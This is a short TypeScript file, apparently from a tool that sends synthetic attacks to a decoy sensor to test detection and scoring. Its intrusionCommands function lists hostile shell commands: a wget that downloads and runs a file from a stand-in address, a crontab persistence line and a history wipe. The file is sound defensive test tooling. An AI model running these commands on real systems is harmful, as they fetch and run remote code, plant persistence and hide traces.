import type { SyntheticTarget } from '@eviltwin/contract'

/** One attack, as its client makes it. */
export interface Attack {
  target: SyntheticTarget
  /** Proves to ingest that it is ours; it has to be in the first text that the sensor records. */
  marker: string
  /** When it has to end. */
  deadline: AbortSignal
  /** RFC 3339. */
  now: string
}

/** Attacks over one protocol. Rejects with what kept it from the end, in words that an operator reads. */
export type AttackClient = (attack: Attack) => Promise<void>

/** What an intruder does who gets a shell: it has to score high. Nothing of it is ever executed: the sensor is a decoy. */
export function intrusionCommands(marker: string): string[] {
  return [
    `cd /tmp && wget http://192.0.2.66/${marker} -O .x && chmod 777 .x && ./.x`,
    '(crontab -l; echo "*/5 * * * * /tmp/.x") | crontab -',
    'history -c',
  ]
}
